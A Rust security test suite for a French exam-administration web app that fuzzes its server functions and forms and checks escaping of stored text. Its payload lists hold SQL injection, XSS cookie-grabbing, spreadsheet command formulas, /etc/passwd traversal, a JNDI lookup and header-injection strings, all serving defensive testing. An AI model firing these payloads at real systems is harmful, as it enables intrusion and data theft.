//! Hostile input: every server function the application registers, and the forms posted without JavaScript
//! (sign-in, activation), get at least 1,000 generated inputs each from a seeded generator (so a failure can be
//! replayed): overlong strings, control characters, invalid UTF-8, SQL and HTML/JS injection, huge and negative
//! numbers, absurd dates, wrong types, formula cells, missing, duplicated and unknown fields, bodies that are not
//! forms at all. Each input is sent by a user allowed to call the function (so that it reaches the checks behind
//! authorization), starting from the arguments of the authorization matrix or from valid ones.
//!
//! For every answer: no 5xx; a refusal is one of the application's French messages (never the internal-error
//! one); and after each function's run, nothing that should not be is stored (text with control characters,
//! longer than its limit, a name or e-mail that a spreadsheet would run as a formula).

use app::error::AppError;
use reqwest::header::{ACCEPT, CONTENT_TYPE, ORIGIN};
use sea_orm::{ConnectionTrait, DatabaseConnection, EntityTrait, Statement};
use server::testing::{Backend, TestServer};

use crate::helpers::{Browser, start};
use crate::matrix::{Obj, Who, object, rows};
use crate::on_both_databases;

/// Inputs per server function and per form.
const PER_FUNCTION: usize = 1_000;

/// Requests sent at once.
const IN_FLIGHT: usize = 8;

/// xorshift64*: small, deterministic, good enough to pick among cases.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }
    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }
    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len())]
    }
    fn chance(&mut self, one_in: usize) -> bool {
        self.below(one_in) == 0
    }
}

const SQL: &[&str] = &[
    "' OR '1'='1",
    "'; DROP TABLE centre; --",
    "1; DELETE FROM session",
    "\" OR 1=1 --",
    "1' UNION SELECT password_hash FROM app_user --",
    "%' AND 1=0 UNION SELECT NULL--",
    "admin'--",
    "1) OR (1=1",
    "'||pg_sleep(5)||'",
    "\\'; SELECT 1; --",
];
const HTML: &[&str] = &[
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "javascript:alert(1)",
    "</textarea><script>alert(document.cookie)</script>",
    "<iframe src=\"https://exemple.invalid\"></iframe>",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "<!--#exec cmd=\"ls\"-->",
    "&lt;b&gt;&amp;",
    "<style>*{display:none}</style>",
];
const NUMBERS: &[&str] = &[
    "99999999999999999999999999",
    "-1",
    "-2147483649",
    "2147483648",
    "9223372036854775808",
    "-9223372036854775809",
    "1e308",
    "-1e-308",
    "NaN",
    "Infinity",
    "0x10",
    "1.5",
    "-0",
    "+5",
    " 42 ",
    "0",
    "007",
    "1_000",
];
const DATES: &[&str] = &[
    "0000-00-00",
    "-0001-01-01",
    "9999-12-31",
    "2019-02-30",
    "+275760-09-13",
    "31/12/9999",
    "00/00/0000",
    "29/02/2023",
    "1970-01-01T00:00:00Z",
    "2024-13-01",
    "01/01/0001",
    "32/01/2020",
    "2020-1-1",
    "hier",
    "99:99",
    "25:00",
    "-1:-1",
];
const WRONG_TYPES: &[&str] = &["true", "false", "null", "[]", "{}", "[1,2]", "{\"a\":1}", "undefined", "None"];
const BLANKS: &[&str] = &["", " ", "\t", "\u{a0}", "\u{200b}", "\u{3000}", "   \n  "];
const UNICODE: &[&str] = &[
    "Ω≈ç√∫",
    "ＡＢＣ１２３",
    "e\u{301}le\u{300}ve",
    "\u{feff}Dupont",
    "👨\u{200d}👩\u{200d}👧",
    "\u{202e}tnopuD",
    "ᚠᛇᚻ",
    "𝕯𝖚𝖕𝖔𝖓𝖙",
    "\u{fffd}\u{fffd}",
    "Zalgo\u{336}\u{335}\u{334}",
];
const FORMULAS: &[&str] =
    &["=1+1", "+33 6 12", "-2+3", "@SUM(A1:A9)", "=HYPERLINK(\"http://exemple.invalid\",\"x\")", "=cmd|'/c calc'!A0"];
const ODDITIES: &[&str] = &[
    "../../etc/passwd",
    "%s%s%s%n",
    "${jndi:ldap://exemple.invalid/a}",
    "\\\\serveur\\partage",
    "%00",
    "%2e%2e%2f",
    "a\r\nSet-Cookie: x=1",
    "titre; charset=utf-7",
];

/// One hostile value, as raw bytes (it may not be UTF-8).
fn hostile_value(rng: &mut Rng) -> Vec<u8> {
    match rng.below(13) {
        0 => {
            let unit = *rng.pick(&["a", "é", "😀", "\u{202e}", "<", "'", "9", " "]);
            let n = *rng.pick(&[256usize, 1_001, 5_000, 20_000, 100_000]);
            unit.repeat(n).into_bytes()
        }
        1 => {
            let mut s = String::from(*rng.pick(&["Dupont", "", "2030-01-01", "texte"]));
            for _ in 0..=rng.below(4) {
                let c =
                    *rng.pick(&['\0', '\u{1}', '\u{7}', '\u{8}', '\u{b}', '\u{1b}', '\u{7f}', '\u{85}', '\u{2028}']);
                let at = s.char_indices().map(|(i, _)| i).nth(rng.below(s.chars().count() + 1)).unwrap_or(s.len());
                s.insert(at, c);
            }
            s.into_bytes()
        }
        2 => {
            let mut v = b"Dup".to_vec();
            const INVALID: &[&[u8]] =
                &[&[0xff], &[0xfe, 0xff], &[0xc3, 0x28], &[0xa0, 0xa1], &[0xe2, 0x82], &[0xf0, 0x90, 0x80]];
            let bytes: &&[u8] = rng.pick(INVALID);
            v.extend_from_slice(bytes);
            v.extend_from_slice(b"ont");
            v
        }
        3 => rng.pick(SQL).as_bytes().to_vec(),
        4 => rng.pick(HTML).as_bytes().to_vec(),
        5 => rng.pick(NUMBERS).as_bytes().to_vec(),
        6 => rng.pick(DATES).as_bytes().to_vec(),
        7 => rng.pick(WRONG_TYPES).as_bytes().to_vec(),
        8 => rng.pick(BLANKS).as_bytes().to_vec(),
        9 => rng.pick(UNICODE).as_bytes().to_vec(),
        10 => rng.pick(FORMULAS).as_bytes().to_vec(),
        11 => rng.pick(ODDITIES).as_bytes().to_vec(),
        _ => (0..rng.below(64)).map(|_| rng.next() as u8).collect(),
    }
}

type Pairs = Vec<(Vec<u8>, Vec<u8>)>;

fn encode(bytes: &[u8]) -> String {
    let mut out = String::with_capacity(bytes.len() * 3);
    for &b in bytes {
        if b.is_ascii_alphanumeric() || b"-_.~".contains(&b) {
            out.push(b as char);
        } else {
            out.push_str(&format!("%{b:02X}"));
        }
    }
    out
}

fn form(pairs: &Pairs) -> String {
    pairs.iter().map(|(k, v)| format!("{}={}", encode(k), encode(v))).collect::<Vec<_>>().join("&")
}

/// A generated request body from a template of valid or deliberately incomplete arguments.
fn mutate(template: &[(String, String)], rng: &mut Rng) -> String {
    let mut pairs: Pairs = template.iter().map(|(k, v)| (k.as_bytes().to_vec(), v.as_bytes().to_vec())).collect();
    match rng.below(10) {
        // Not a form at all.
        0 => return encode_raw(&hostile_value(rng), rng),
        // One field missing, the others hostile or kept.
        1 if !pairs.is_empty() => {
            let i = rng.below(pairs.len());
            pairs.remove(i);
        }
        // A field given twice.
        2 if !pairs.is_empty() => {
            let i = rng.below(pairs.len());
            let key = pairs[i].0.clone();
            pairs.push((key, hostile_value(rng)));
        }
        // An unknown field, or a key that is not one.
        3 => {
            let key = match rng.below(3) {
                0 => b"input[inconnu]".to_vec(),
                1 => hostile_value(rng),
                _ => pairs.first().map(|(k, _)| [k.as_slice(), b"[0][x]"].concat()).unwrap_or_default(),
            };
            pairs.push((key, hostile_value(rng)));
        }
        _ => {}
    }
    // Most inputs: some fields replaced by hostile values.
    for (_, v) in pairs.iter_mut() {
        if rng.chance(2) {
            *v = hostile_value(rng);
        }
    }
    form(&pairs)
}

/// Raw bytes as a body: sometimes as they are (not valid form encoding), sometimes percent-encoded.
fn encode_raw(bytes: &[u8], rng: &mut Rng) -> String {
    if rng.chance(2) { String::from_utf8_lossy(bytes).into_owned() } else { encode(bytes) }
}

/// Valid arguments for the functions that store text, so that hostile values reach what is stored.
fn valid_args(endpoint: &str, o: &Obj) -> Option<Vec<(String, String)>> {
    let s = |k: &str, v: &str| (k.to_owned(), v.to_owned());
    let session = o.session.to_string();
    Some(match endpoint {
        "session/candidat" => vec![
            s("session_id", &session),
            s("input[nom]", "Martin"),
            s("input[prenom]", "Léa"),
            s("input[date_naissance]", "12/03/1990"),
            s("input[email]", "lea.martin@exemple.fr"),
            s("input[voie_acces]", "formation"),
        ],
        "session/candidats/import" => vec![
            s("session_id", &session),
            s("lignes[0][nom]", "Durand"),
            s("lignes[0][prenom]", "Paul"),
            s("lignes[0][date_naissance]", "01/02/1985"),
            s("lignes[0][email]", ""),
            s("lignes[0][voie_acces]", "vae"),
        ],
        "session/responsable" => vec![
            s("session_id", &session),
            s("input[nom]", "Petit"),
            s("input[prenom]", "Anne"),
            s("input[telephone]", "0466000000"),
            s("input[email]", "anne.petit@exemple.fr"),
        ],
        "session/personne" => vec![
            s("session_id", &session),
            s("jury", "true"),
            s("input[nom]", "Roux"),
            s("input[prenom]", "Marc"),
            s("input[habilitation_fin]", "31/12/2031"),
        ],
        "session/dte" => vec![
            s("session_id", &session),
            s("input[nombre_candidats]", "8"),
            s("input[date_reception_plis]", "2030-05-01"),
            s("input[commentaires]", "Livraison à l'accueil"),
        ],
        "centre/representant" | "site/representant" => {
            let id = if endpoint == "centre/representant" { o.centre } else { o.site };
            vec![
                s("id", &id.to_string()),
                s("input[nom]", "Bernard"),
                s("input[prenom]", "Julie"),
                s("input[genre]", "Madame"),
                s("input[telephone]", "0466000001"),
                s("input[email]", "julie.bernard@exemple.fr"),
            ]
        }
        _ => return None,
    })
}

/// The account that calls a function: the most local one allowed inside its territory (so that the territory
/// checks run too), else the national administrator.
fn caller(allowed: fn(Who, bool) -> bool) -> &'static str {
    [(Who::Centre, "centre-1630"), (Who::Ud, "ud-30"), (Who::Dreets, "dreets-occ")]
        .into_iter()
        .find(|(w, _)| allowed(*w, true))
        .map_or("admin", |(_, login)| login)
}

/// The answer's status and body; `None` if there was none (the connection dropped: a panic on the server).
async fn post(b: &Browser, path: &str, body: String, json: bool) -> Option<(reqwest::StatusCode, String)> {
    let r = b
        .client
        .post(format!("{}{path}", b.base))
        .header(ORIGIN, &b.base)
        .header(ACCEPT, if json { "application/json" } else { "text/html" })
        .header(CONTENT_TYPE, "application/x-www-form-urlencoded")
        .body(body)
        .send()
        .await
        .ok()?;
    let status = r.status();
    Some((status, r.text().await.ok()?))
}

/// Sends the inputs a few at a time (both cores busy), each by the browser its login names; the answers in the
/// inputs' order.
async fn send_all(
    inputs: Vec<(usize, &'static str, String)>,
    path: &str,
    browsers: &std::collections::HashMap<&'static str, Browser>,
    json: bool,
) -> Vec<(usize, &'static str, String, Option<(reqwest::StatusCode, String)>)> {
    let mut answers = Vec::with_capacity(inputs.len());
    for chunk in inputs.chunks(IN_FLIGHT) {
        let mut tasks = tokio::task::JoinSet::new();
        for (i, who, body) in chunk.iter().cloned() {
            let (b, path) = (browsers[who].clone(), path.to_owned());
            tasks.spawn(async move {
                let answer = post(&b, &path, body.clone(), json).await;
                (i, who, body, answer)
            });
        }
        answers.extend(tasks.join_all().await);
    }
    answers.sort_by_key(|(i, ..)| *i);
    answers
}

/// Text columns that users fill: table, column, limit, multi-line (may hold line breaks and tabulations), and
/// whether it is a person's name or e-mail (never starting like a spreadsheet formula).
const STORED: &[(&str, &str, usize, bool, bool)] = &[
    ("candidat", "nom", 100, false, true),
    ("candidat", "prenom", 100, false, true),
    ("candidat", "email", 254, false, true),
    ("surveillant", "nom", 100, false, true),
    ("surveillant", "prenom", 100, false, true),
    ("jury_membre", "nom", 100, false, true),
    ("jury_membre", "prenom", 100, false, true),
    ("session", "commentaires", 2_000, true, false),
    ("session", "responsable_nom", 100, false, true),
    ("session", "responsable_prenom", 100, false, true),
    ("session", "responsable_telephone", 30, false, false),
    ("session", "responsable_email", 254, false, true),
    ("session", "motif_annulation", 2_000, true, false),
    ("session", "demande_correction", 2_000, true, false),
    ("demande_dte", "commentaires", 2_000, true, false),
    ("derogation", "nom", 200, false, false),
    ("derogation", "motif", 2_000, true, false),
    ("centre", "raison_sociale", 200, false, false),
    ("centre", "adresse", 300, false, false),
    ("centre", "commentaires", 2_000, true, false),
    ("centre", "rep_nom", 100, false, true),
    ("centre", "rep_prenom", 100, false, true),
    ("centre", "rep_telephone", 30, false, false),
    ("centre", "rep_email", 254, false, true),
    ("site", "nom", 200, false, false),
    ("site", "rep_nom", 100, false, true),
    ("site", "rep_prenom", 100, false, true),
    ("site", "rep_telephone", 30, false, false),
    ("site", "rep_email", 254, false, true),
];

/// Every stored value that should not be, described.
async fn unclean_stored_text(db: &DatabaseConnection) -> Vec<String> {
    let mut bad = Vec::new();
    for (table, column, limit, multiline, personal) in STORED {
        let sql = format!(r#"SELECT "id", "{column}" FROM "{table}" WHERE "{column}" IS NOT NULL"#);
        let rows = db
            .query_all_raw(Statement::from_string(db.get_database_backend(), sql))
            .await
            .unwrap_or_else(|e| panic!("{table}.{column}: {e}"));
        for row in rows {
            let id: i32 = row.try_get_by_index(0).expect("id");
            let value: String = row.try_get_by_index(1).expect("text");
            let control = value.chars().any(|c| c.is_control() && !(*multiline && matches!(c, '\n' | '\r' | '\t')));
            let formula = *personal && app::domain::text::looks_like_formula(&value);
            if control || value.chars().count() > *limit || formula || value.contains('\u{fffd}') {
                let shown: String = value.chars().take(40).collect();
                bad.push(format!("{table}.{column} #{id} ({} chars): {shown:?}", value.chars().count()));
            }
        }
    }
    bad
}

async fn every_input_is_refused_in_french_or_stored_clean(backend: Backend) {
    let srv: TestServer = start(backend).await;
    let obj = object(&srv, "53060076600022").await;
    let mut browsers = std::collections::HashMap::new();
    for login in ["admin", "centre-1630", "ud-30", "dreets-occ"] {
        let b = Browser::new(&srv);
        b.sign_in(login).await;
        browsers.insert(login, b);
    }
    let seed = match backend {
        Backend::Sqlite => 0x5EED_CE2E_5001,
        Backend::Postgres => 0x5EED_CE2E_5002,
    };
    let mut rng = Rng(seed);
    let mut failures = Vec::new();
    let mut sent = 0usize;

    for row in rows() {
        let matrix_args = (row.args)(&obj);
        let valid = valid_args(row.endpoint, &obj);
        let login = caller(row.allowed);
        // Generated in order from the seed, then sent a few at a time (both cores busy).
        let inputs: Vec<(usize, &'static str, String)> = (0..PER_FUNCTION)
            .map(|i| {
                let who = if i % 4 == 3 { "admin" } else { login };
                let template = match &valid {
                    Some(v) if rng.chance(2) => v,
                    _ => &matrix_args,
                };
                (i, who, mutate(template, &mut rng))
            })
            .collect();
        let answers = send_all(inputs, &format!("/api/{}", row.endpoint), &browsers, true).await;
        for (i, login, body, answer) in answers {
            sent += 1;
            let Some((status, text)) = answer else {
                let shown: String = body.chars().take(200).collect();
                failures.push(format!(
                    "{} #{i} as {login}: no answer (the server dropped the request) for {shown}",
                    row.endpoint
                ));
                continue;
            };
            // « null » with 404: no such centre, site or session (the page says so in French).
            let refusal_ok = status.is_success()
                || (status == reqwest::StatusCode::NOT_FOUND && text == "null")
                || matches!(
                    serde_json::from_str::<AppError>(&text),
                    Ok(e) if !matches!(e, AppError::Interne | AppError::Indisponible | AppError::Communication)
                        && !e.to_string().trim().is_empty()
                );
            if status.is_server_error() || !refusal_ok {
                let shown: String = body.chars().take(200).collect();
                let answer: String = text.chars().take(200).collect();
                failures.push(format!("{} #{i} as {login}: {status} {answer:?} for {shown}", row.endpoint));
            }
        }
        for bad in unclean_stored_text(&srv.state.db).await {
            failures.push(format!("after {}: stored {bad}", row.endpoint));
        }
        if failures.len() > 40 {
            break;
        }
    }

    // The forms of pages without JavaScript: sign-in and activation, by an anonymous browser.
    let forms: [(&str, Vec<(String, String)>); 2] = [
        (
            "/connexion",
            vec![
                ("identifiant".into(), "centre-1630".into()),
                ("mot_de_passe".into(), "pas le bon".into()),
                ("suite".into(), "/sessions".into()),
            ],
        ),
        (
            "/activation",
            vec![
                ("siret".into(), "53060076600022".into()),
                ("code".into(), "ABCD-EFGH-JKLM".into()),
                ("identifiant".into(), "nouveau-compte".into()),
                ("mot_de_passe".into(), "un mot de passe long".into()),
                ("confirmation".into(), "un mot de passe long".into()),
            ],
        ),
    ];
    let anonymous = std::collections::HashMap::from([("anonyme", Browser::new(&srv))]);
    for (path, template) in &forms {
        let inputs = (0..PER_FUNCTION).map(|i| (i, "anonyme", mutate(template, &mut rng))).collect();
        for (i, _, body, answer) in send_all(inputs, path, &anonymous, false).await {
            sent += 1;
            let Some((status, text)) = answer else {
                let shown: String = body.chars().take(300).collect();
                failures.push(format!("{path} #{i}: no answer (the server dropped the request) for {shown}"));
                continue;
            };
            // A refusal is a page that says what to do, in French (sign-in failures and throttling included).
            let french = [
                "Identifiant ou mot de passe",
                "Trop de tentatives",
                "Saisissez",
                "code",
                "SIRET",
                "mot de passe",
                "illisibles",
            ]
            .iter()
            .any(|m| text.contains(m));
            if status.is_server_error() || (!status.is_redirection() && !french) {
                let shown: String = body.chars().take(200).collect();
                failures.push(format!("{path} #{i}: {status} for {shown}"));
            }
        }
    }
    for bad in unclean_stored_text(&srv.state.db).await {
        failures.push(format!("after the forms: stored {bad}"));
    }

    assert!(
        failures.is_empty(),
        "{} failures over {sent} generated inputs (seed {seed:#x}):\n{}",
        failures.len(),
        failures.iter().take(40).cloned().collect::<Vec<_>>().join("\n")
    );
    assert!(sent >= PER_FUNCTION * (rows().len() + 2));
    srv.stop().await;
}
on_both_databases!(every_input_is_refused_in_french_or_stored_clean);

/// A form body up to CERES' limit (4 MB) reaches its server function, which answers in French; a larger one is
/// refused in French before it. Between axum's default limit (2 MB) and CERES' own, bodies used to be cut inside the
/// server function, which answered 500 (found by the test above).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn forms_up_to_the_limit_reach_the_server_functions_and_larger_ones_are_refused_in_french() {
    let srv = start(Backend::Sqlite).await;
    let obj = object(&srv, "53060076600022").await;
    let b = Browser::new(&srv);
    b.sign_in("centre-1630").await;
    // A first name of `n` emoji, 12 bytes each once encoded.
    let body = |n: usize| {
        format!(
            "session_id={}&input%5Bnom%5D=Petit&input%5Bprenom%5D={}&input%5Btelephone%5D=&input%5Bemail%5D=",
            obj.session,
            "%F0%9F%98%80".repeat(n)
        )
    };
    let (status, text) = post(&b, "/api/session/responsable", body(250_000), true).await.expect("an answer");
    assert_eq!(
        status,
        reqwest::StatusCode::UNPROCESSABLE_ENTITY,
        "3 MB: {}",
        text.chars().take(300).collect::<String>()
    );
    assert!(text.contains("Le responsable n'a pas été enregistré"), "{}", text.chars().take(300).collect::<String>());
    let (status, text) = post(&b, "/api/session/responsable", body(400_000), true).await.expect("an answer");
    assert_eq!(status, reqwest::StatusCode::PAYLOAD_TOO_LARGE, "4.8 MB");
    assert!(text.contains("trop volumineuse (4 Mo au plus)"), "{text}");
    srv.stop().await;
}

/// What one user types is shown to another as text: escaped in the page's HTML and in the data the page hydrates
/// from, never run.
async fn text_typed_by_one_user_is_shown_escaped_to_another(backend: Backend) {
    let srv = start(backend).await;
    let db = &srv.state.db;
    let obj = object(&srv, "53060076600022").await;
    let occ = Browser::new(&srv);
    occ.sign_in("dreets-occ").await;
    let payload = "<script>alert(\"CERES\")</script> & <img src=x onerror=alert(1)> </script><b>ceres-fin</b>";
    let mut args = vec![("id".to_owned(), obj.centre.to_string())];
    args.extend(obj.shown_identification.clone());
    args.extend(
        obj.shown_identification
            .iter()
            .filter(|(k, _)| k != "avant[commentaires]")
            .map(|(k, v)| (k.replacen("avant[", "input[", 1), v.clone())),
    );
    args.push(("input[commentaires]".to_owned(), payload.to_owned()));
    let pairs: Vec<(&str, &str)> = args.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
    let r = occ.call("centre/identification", &pairs).await;
    assert_eq!(r.status(), reqwest::StatusCode::OK, "{}", r.text().await.unwrap_or_default());
    let stored = app::db::entity::centre::Entity::find_by_id(obj.centre).one(db).await.expect("q").expect("centre");
    assert_eq!(stored.commentaires.as_deref(), Some(payload.trim()), "stored as typed");

    let centre = Browser::new(&srv);
    centre.sign_in("centre-1630").await;
    let (status, html) = centre.get_text(&format!("/centres/{}", obj.centre)).await;
    assert_eq!(status, reqwest::StatusCode::OK);
    assert!(html.contains("&lt;script&gt;alert("), "shown as text");
    for raw in ["<script>alert(", "<img src=x", "</script><b>ceres-fin"] {
        if let Some(at) = html.find(raw) {
            let around: String = html[at.saturating_sub(300)..].chars().take(400).collect();
            panic!("{raw} reaches the page unescaped: …{around}…");
        }
    }
    // The data the page hydrates from, read back as the browser's JavaScript reads it: the text exactly as typed.
    let data: Vec<serde_json::Value> = resolved_resources(&html)
        .iter()
        .map(|literal| serde_json::from_str(&js_string_value(literal)).expect("JSON"))
        .collect();
    assert!(
        data.iter().any(|d| d["Ok"]["identification"]["commentaires"] == payload.trim()),
        "the hydration data holds the comment as typed: {data:?}"
    );
    srv.stop().await;
}

/// The string literals of `__RESOLVED_RESOURCES[n] = "…";` in a page, quotes included.
fn resolved_resources(html: &str) -> Vec<&str> {
    let mut found = Vec::new();
    let mut rest = html;
    while let Some(at) = rest.find("__RESOLVED_RESOURCES[") {
        rest = &rest[at..];
        let Some(start) = rest.find("] = \"").map(|i| i + 4) else { break };
        let bytes = rest.as_bytes();
        let mut end = start + 1;
        while bytes[end] != b'"' {
            end += if bytes[end] == b'\\' { 2 } else { 1 };
        }
        found.push(&rest[start..=end]);
        rest = &rest[end..];
    }
    found
}

/// The value of a double-quoted JavaScript string literal (the escapes a page's hydration data uses).
fn js_string_value(literal: &str) -> String {
    let inner = &literal[1..literal.len() - 1];
    let mut out = String::new();
    let mut chars = inner.chars();
    while let Some(c) = chars.next() {
        if c != '\\' {
            out.push(c);
            continue;
        }
        match chars.next().expect("escape") {
            'n' => out.push('\n'),
            'r' => out.push('\r'),
            't' => out.push('\t'),
            'u' => {
                let hex: String = if chars.clone().next() == Some('{') {
                    chars.next();
                    chars.by_ref().take_while(|&c| c != '}').collect()
                } else {
                    chars.by_ref().take(4).collect()
                };
                out.push(char::from_u32(u32::from_str_radix(&hex, 16).expect("hex")).expect("char"));
            }
            other => out.push(other),
        }
    }
    out
}
on_both_databases!(text_typed_by_one_user_is_shown_escaped_to_another);
